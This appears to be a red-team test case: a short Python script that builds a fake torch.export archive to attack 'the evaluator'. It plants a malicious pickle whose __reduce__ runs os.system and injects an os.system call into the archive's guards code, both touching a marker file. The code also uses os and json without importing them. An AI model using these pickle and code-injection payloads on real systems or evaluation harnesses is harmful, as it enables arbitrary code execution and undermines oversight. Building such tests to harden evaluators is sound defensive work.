"""Tries: submit a torch.export archive with planted guards code and a pickle.
Against: the evaluator
Ends: refused refused
With: protocol, graph
"""

import io
import pickle
import zipfile


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @SECRET@.pwned",))


buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as pack:
    pack.writestr("archive/models/model.json", json.dumps({"guards_code": ["__import__('os').system('touch @SECRET@.pwned')"]}))
    pack.writestr("archive/data/sample_inputs/model.pt", pickle.dumps(Bomb()))
submit(buffer.getvalue())
